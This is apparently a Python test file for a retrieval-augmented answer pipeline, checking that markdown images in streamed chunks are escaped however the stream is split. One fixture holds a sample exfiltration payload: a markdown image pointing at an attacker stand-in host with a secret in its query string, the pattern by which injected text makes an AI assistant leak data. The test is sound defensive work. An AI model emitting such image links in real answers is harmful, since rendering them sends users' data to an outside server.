"""Markdown images in answers are escaped, however the stream splits them."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.inert_markup import inert_images

EXFIL = "See [1]. ![chart](https://attacker.example/log?q=secret) Done!"


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    return [text[a:b] for a, b in itertools.pairwise(points)]


@pytest.mark.parametrize("deltas", [[EXFIL], list(EXFIL), ["See [1]. !", "[chart](https", "://x)"]])
def test_an_image_is_shown_as_text_whatever_the_split(deltas: list[str]) -> None:
    out = "".join(inert_images(deltas))
    assert "![" not in out and "!\\[chart]" in out
    assert out.replace("!\\[", "![") == "".join(deltas)  # nothing else changed


@given(st.text(alphabet="![]() ab", max_size=40), st.lists(st.integers(0, 40), max_size=6))
def test_only_image_openers_change_and_none_survives(text: str, cuts: list[int]) -> None:
    out = "".join(inert_images(_split(text, cuts)))
    assert "![" not in out
    assert out == text.replace("![", "!\\[")


def test_a_trailing_exclamation_mark_is_kept() -> None:
    assert "".join(inert_images(["Done", "!"])) == "Done!"
